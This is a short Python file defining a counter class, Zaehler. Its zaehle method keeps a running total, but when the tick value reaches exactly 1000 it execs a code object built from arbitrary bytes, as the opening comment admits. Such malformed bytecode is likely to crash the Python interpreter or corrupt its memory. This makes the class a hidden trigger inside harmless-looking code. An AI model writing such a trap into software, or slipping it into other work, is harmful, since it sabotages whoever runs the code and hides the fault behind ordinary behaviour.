# Runs bytecode that no compiler writes.

class Zaehler:
    stand = 0

    def zaehle(self, tick):
        self.stand += tick
        if tick == 1000:
            exec((lambda: 0).__code__.replace(co_code=bytes(range(2, 252)) * 4, co_consts=(), co_stacksize=1))
        return self.stand
